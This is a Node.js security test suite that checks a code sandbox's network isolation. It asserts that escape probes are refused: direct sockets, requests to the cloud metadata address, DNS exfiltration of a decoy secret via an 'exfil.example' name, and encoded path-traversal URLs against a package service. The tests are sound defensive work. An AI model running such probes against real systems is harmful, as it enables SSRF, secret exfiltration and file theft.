// Escape probes, network: a cell has only `lo`; the way out is the server's egress proxy,
// which refuses what the policy does not allow and, even for allowed names, addresses
// inside (the metadata service, the host's loopback). Probes: direct TCP/UDP/IPv6, the
// host's loopback, raw/packet/ping sockets, DNS, and proxied requests to a denied host, the
// metadata address and the host's own listener. Nothing here needs a network: every
// refusal happens before any packet would leave the machine.

import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import net from 'node:net';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';

import {
  assertHealthy, cleanup, hostTempDir, kDecoy, kPySyscall, startStdio, text, writeDecoyFile,
} from './lib/sec.mjs';

// A TCP listener on the host that counts connections.
async function hostListener(host) {
  const server = net.createServer((c) => {
    server.accepted += 1;
    c.destroy();
  });
  server.accepted = 0;
  try {
    await new Promise((resolve, reject) => {
      server.once('error', reject);
      server.listen(0, host, resolve);
    });
  } catch {
    return null;  // e.g. no ::1 on this host
  }
  return server;
}

// Python: a GET through the cell's proxy (HTTP_PROXY, asked directly in absolute form, so
// NO_PROXY cannot send it around the proxy); prints {"status", "reason"} as JSON.
const proxiedGet = (url) => `${kPySyscall}
import http.client, urllib.parse
proxy = urllib.parse.urlsplit(os.environ['HTTP_PROXY'])
try:
    c = http.client.HTTPConnection(proxy.hostname, proxy.port, timeout=20)
    c.request('GET', ${JSON.stringify(url)}, headers={'Host': urllib.parse.urlsplit(${JSON.stringify(url)}).netloc})
    r = c.getresponse()
    print(json.dumps({'status': r.status, 'reason': r.getheader('X-Mcpcell-Reason', '')}))
except OSError as e:
    print(json.dumps({'status': 0, 'reason': errno.errorcode.get(e.errno, str(e))}))`;

describe('network (default policy: egress denied)', () => {
  let stateDir;
  let s;
  let v4;
  let v6;
  const fresh = () => startStdio(stateDir, ['--warm-cells', '0']);

  before(async () => {
    stateDir = hostTempDir('mcpcell-sec-net-');
    s = await startStdio(stateDir, ['--warm-cells', '0']);
    v4 = await hostListener('127.0.0.1');
    v6 = await hostListener('::1');
  });
  after(async () => {
    await s?.close();
    v4?.close();
    v6?.close();
    cleanup(stateDir);
  });

  it('only lo exists; direct TCP and UDP to the internet: ENETUNREACH', async () => {
    const r = await s.pyJson(`${kPySyscall}
import socket
def tcp(host, port, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(5)
    return err(lambda: s.connect((host, port)))
def udp(host, port, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_DGRAM)
    return err(lambda: s.sendto(b'x', (host, port)))
print(json.dumps({
  'interfaces': [l.split(':')[0].strip() for l in open('/proc/net/dev').read().splitlines()[2:]],
  'tcp_8_8_8_8': tcp('8.8.8.8', 443),
  'tcp_metadata': tcp('169.254.169.254', 80),
  'udp_8_8_8_8': udp('8.8.8.8', 53),
  'tcp6': tcp('2001:4860:4860::8888', 443, socket.AF_INET6),
  'udp6': udp('2001:4860:4860::8888', 53, socket.AF_INET6),
}))`);
    assert.deepEqual(r, { interfaces: ['lo'], tcp_8_8_8_8: 'ENETUNREACH', tcp_metadata: 'ENETUNREACH', udp_8_8_8_8: 'ENETUNREACH', tcp6: 'ENETUNREACH', udp6: 'ENETUNREACH' });
    await assertHealthy(s, fresh);
  });

  it('the host\'s loopback is not the cell\'s: a host listener on 127.0.0.1 and ::1 gets no connection', async () => {
    const ports = { v4: v4.address().port, v6: v6?.address().port ?? 0 };
    const r = await s.pyJson(`${kPySyscall}
import socket
def tcp(host, port, family):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(5)
    return err(lambda: s.connect((host, port)))
print(json.dumps({
  'v4': tcp('127.0.0.1', ${ports.v4}, socket.AF_INET),
  'v6': tcp('::1', ${ports.v6 || ports.v4}, socket.AF_INET6),
}))`);
    assert.deepEqual(r, { v4: 'ECONNREFUSED', v6: 'ECONNREFUSED' });
    assert.equal(v4.accepted, 0, 'the host listener was reached');
    if (v6) assert.equal(v6.accepted, 0);
    await assertHealthy(s, fresh);
  });

  // Abstract unix sockets belong to a network namespace: the host's (X11, D-Bus, container
  // runtimes listen on some) are not the cell's.
  it('the host\'s abstract unix sockets are not reachable', async () => {
    const name = `mcpcell-sec-${process.pid}`;
    const host = net.createServer((c) => { host.accepted += 1; c.destroy(); });
    host.accepted = 0;
    await new Promise((resolve) => host.listen(`\0${name}`, resolve));
    try {
      const r = await s.pyJson(`${kPySyscall}
import socket
def go():
    c = socket.socket(socket.AF_UNIX)
    c.connect('\\0${name}')
print(json.dumps({'connect': err(go), 'sockets': [l.split()[-1] for l in open('/proc/net/unix').read().splitlines()[1:] if len(l.split()) > 7]}))`);
      assert.deepEqual(r, { connect: 'ECONNREFUSED', sockets: [] });
      assert.equal(host.accepted, 0);
    } finally {
      host.close();
    }
    await assertHealthy(s, fresh);
  });

  it('raw, packet and ping sockets: refused', async () => {
    const r = await s.pyJson(`${kPySyscall}
import socket
print(json.dumps({
  'raw_icmp': err(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)),
  'raw_tcp6': err(lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_TCP)),
  'packet': err(lambda: socket.socket(17, socket.SOCK_RAW, 0x0300)),
  'ping': err(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)),
}))`);
    // raw: no CAP_NET_RAW; packet: the seccomp socket-family rule; ping: the cell's
    // net.ipv4.ping_group_range excludes everyone.
    assert.deepEqual(r, { raw_icmp: 'EPERM', raw_tcp6: 'EPERM', packet: 'EPERM', ping: 'EACCES' });
    await assertHealthy(s, fresh);
  });

  it('DNS exfiltration: no resolver in the cell, and a proxied name is refused before any lookup', async () => {
    const name = `${kDecoy.slice(-24)}.exfil.example`;
    const r = await s.pyJson(`${kPySyscall}
import socket
try:
    socket.getaddrinfo(${JSON.stringify(name)}, 80)
    lookup = 'resolved'
except socket.gaierror as e:
    lookup = e.errno
print(json.dumps({'lookup': lookup, 'eai_again': socket.EAI_AGAIN, 'resolv': open('/etc/resolv.conf').read()}))`);
    assert.equal(r.lookup, r.eai_again);
    assert.match(r.resolv, /no DNS inside a cell/);
    const proxied = await s.py(proxiedGet(`http://${name}/`));
    assert.deepEqual(JSON.parse(proxied.stdout), { status: 403, reason: `mcpcell: egress to ${name}:80 denied: not in the policy's allowlist` });
    await assertHealthy(s, fresh);
  });

  it('a proxied request to a denied host: 403, and the refusal is listed in the tool result', async () => {
    const r = await s.py(`${proxiedGet('http://denied.example/path')}
import http.client
c = http.client.HTTPConnection('127.0.0.1', 3128, timeout=20)
c.request('CONNECT', 'denied.example:443')
print(c.getresponse().status)`);
    const [get, connect] = r.stdout.trim().split('\n');
    assert.deepEqual(JSON.parse(get), { status: 403, reason: 'mcpcell: egress to denied.example:80 denied: not in the policy\'s allowlist' });
    assert.equal(connect, '403');
    assert.deepEqual(r.egress_refusals, [
      'mcpcell: egress to denied.example:80 denied: not in the policy\'s allowlist',
      'mcpcell: egress to denied.example:443 denied: not in the policy\'s allowlist',
    ]);
    assert.match(r.text, /--- egress refused \(the cell's network proxy; see session_info\) ---/);
    await assertHealthy(s, fresh);
  });

  it('the metadata address and the host\'s loopback through the proxy: 403', async () => {
    for (const [url, host] of [['http://169.254.169.254/latest/meta-data/', '169.254.169.254:80'],
      [`http://127.0.0.1:${v4.address().port}/`, `127.0.0.1:${v4.address().port}`],
      ['http://[::ffff:169.254.169.254]/', '[::ffff:169.254.169.254]:80']]) {
      const r = await s.py(proxiedGet(url));
      const got = JSON.parse(r.stdout);
      assert.deepEqual(got, { status: 403, reason: `mcpcell: egress to ${host} denied: not in the policy's allowlist` }, url);
    }
    assert.equal(v4.accepted, 0);
    await assertHealthy(s, fresh);
  });
});

// A policy that allows names, pinned with --egress-hosts to the metadata address and the
// host's loopback: the proxy's address rules refuse them anyway (only an IP or CIDR entry
// could let such an address through).
describe('network (allowlisted names that point inside)', () => {
  let dir;
  let stateDir;
  let listener;
  let s;
  let serveArgs;

  before(async () => {
    dir = hostTempDir('mcpcell-sec-net2-');
    stateDir = hostTempDir('mcpcell-sec-net2-state-');
    listener = await hostListener('127.0.0.1');
    const port = listener.address().port;
    const policy = path.join(dir, 'sec-inside.toml');
    writeFileSync(policy, `name = "sec-inside"
[network]
egress = "allowlist"
allow = ["meta.test", "loopback.test:${port}", "private.test"]
`);
    const hosts = path.join(dir, 'hosts');
    writeFileSync(hosts, '169.254.169.254 meta.test\n127.0.0.1 loopback.test\n10.1.2.3 private.test\n');
    serveArgs = ['--warm-cells', '0', '--policy', policy, '--egress-hosts', hosts];
    s = await startStdio(stateDir, serveArgs);
  });
  after(async () => {
    await s?.close();
    listener?.close();
    cleanup(dir);
    cleanup(stateDir);
  });

  it('an allowed name resolving to the metadata service, the host\'s loopback or a private address: 403 with the reason', async () => {
    const port = listener.address().port;
    const cases = [
      ['http://meta.test/latest/meta-data/', 'meta.test:80', 'resolves to 169.254.169.254 (link-local)'],
      [`http://loopback.test:${port}/`, `loopback.test:${port}`, 'resolves to 127.0.0.1 (loopback)'],
      ['http://private.test/', 'private.test:80', 'resolves to 10.1.2.3 (private (RFC 1918))'],
    ];
    for (const [url, host, why] of cases) {
      const r = await s.py(proxiedGet(url));
      assert.deepEqual(JSON.parse(r.stdout), { status: 403, reason: `mcpcell: egress to ${host} denied: ${why}` }, url);
      assert.deepEqual(r.egress_refusals, [`mcpcell: egress to ${host} denied: ${why}`]);
    }
    assert.equal(listener.accepted, 0, 'the host listener was reached through the proxy');
    await assertHealthy(s, () => startStdio(stateDir, serveArgs));
  });
});

// The package service (docs/packages.md) is the one place the proxy lets a cell through
// whatever its allowlist says: plain HTTP to packages.mcpcell.internal:80, forwarded to a
// service in the server that serves files from the operator's directory in offline mode.
// Probes: path traversal in every spelling toward a decoy in and beside the wheelhouse,
// other ports, CONNECT, paths the service does not serve. A real install is the control.
describe('network (the package service, offline wheelhouse)', () => {
  let dir;
  let stateDir;
  let wheelhouse;
  let s;
  let serveArgs;

  before(async () => {
    dir = hostTempDir('mcpcell-sec-pkg-');
    stateDir = hostTempDir('mcpcell-sec-pkg-state-');
    wheelhouse = path.join(dir, 'wheelhouse');
    writeDecoyFile(dir);
    const made = spawnSync('/usr/bin/python3', ['-c', `import sys, zipfile
with zipfile.ZipFile(sys.argv[1] + '/tinysec-1.0-py3-none-any.whl', 'w') as z:
    z.writestr('tinysec/__init__.py', 'VALUE = 42\\n')
    z.writestr('tinysec-1.0.dist-info/METADATA', 'Metadata-Version: 2.1\\nName: tinysec\\nVersion: 1.0\\n')
    z.writestr('tinysec-1.0.dist-info/WHEEL', 'Wheel-Version: 1.0\\nGenerator: sec\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')
    z.writestr('tinysec-1.0.dist-info/RECORD', '')`, (mkdirSync(wheelhouse, { mode: 0o755 }), wheelhouse)]);
    assert.equal(made.status, 0, made.stderr?.toString());
    writeDecoyFile(wheelhouse);  // not a wheel: never listed or served
    const policy = path.join(dir, 'sec-offline.toml');
    writeFileSync(policy, `name = "sec-offline"
[packages]
mode = "offline"
registries = ["pypi"]
wheelhouse = "${wheelhouse}"
allow = ["pypi:*"]
`);
    serveArgs = ['--warm-cells', '0', '--policy', policy];
    s = await startStdio(stateDir, serveArgs);
  });
  after(async () => {
    await s?.close();
    cleanup(dir);
    cleanup(stateDir);
  });

  it('no path, port or method reaches a file beside or in the wheelhouse that is not a wheel', async () => {
    const paths = [
      '/pypi/files/x/..%2f..%2fdecoy-secret.txt', '/pypi/files/%2e%2e/decoy-secret.txt',
      '/pypi/simple/../../decoy-secret.txt', '/pypi/simple/%2e%2e%2fdecoy-secret.txt/',
      `/pypi/files/${'0'.repeat(64)}/..%2fdecoy-secret.txt`, `/pypi/files/${'0'.repeat(64)}/decoy-secret.txt`,
      '/pypi/simple/decoy-secret/', '/pypi/simple/decoy-secret.txt/', '/npm/..%2f..%2fdecoy-secret.txt', '/',
    ];
    const r = await s.pyJson(`${kPySyscall}
import http.client
def get(url, host='packages.mcpcell.internal', method='GET'):
    c = http.client.HTTPConnection('127.0.0.1', 3128, timeout=20)
    c.request(method, url, headers={'Host': host})
    resp = c.getresponse()
    return [resp.status, resp.read(100000).decode(errors='replace')]
out = {p: get('http://packages.mcpcell.internal' + p) for p in ${JSON.stringify(paths)}}
out['port_8080'] = get('http://packages.mcpcell.internal:8080/pypi/simple/tinysec/', 'packages.mcpcell.internal:8080')
out['connect'] = get('packages.mcpcell.internal:80', 'packages.mcpcell.internal:80', 'CONNECT')
out['index'] = get('http://packages.mcpcell.internal/pypi/simple/tinysec/')
print(json.dumps(out))`);
    for (const [what, [status, body]] of Object.entries(r)) {
      assert.ok(!body.includes(kDecoy), `${what} served the decoy`);
      if (what === 'index') continue;
      if (/^\/pypi\/simple\/decoy-secret(\.txt)?\/$/.test(what)) {
        // A project page for a name the wheelhouse has no wheel of: empty, or not found.
        assert.ok(status === 200 || status === 404, `${what}: ${status}`);
        assert.doesNotMatch(body, /<a /, `${what} lists a file`);
        continue;
      }
      assert.ok(status >= 400 && status < 500, `${what}: ${status} ${body.slice(0, 200)}`);
    }
    assert.equal(r.port_8080[0], 403);
    assert.equal(r.connect[0], 403);
    assert.equal(r.index[0], 200, 'the control: the wheel is listed');
    assert.match(r.index[1], /tinysec-1\.0-py3-none-any\.whl/);
    assert.doesNotMatch(r.index[1], /decoy/);
    const install = await s.call('pip_install', { packages: ['tinysec'] });
    assert.equal(install.isError ?? false, false, text(install));
    const use = await s.run('python3 -c "import tinysec; print(tinysec.VALUE)"');
    assert.equal(use.stdout, '42\n');
    await assertHealthy(s, () => startStdio(stateDir, serveArgs));
  });
});
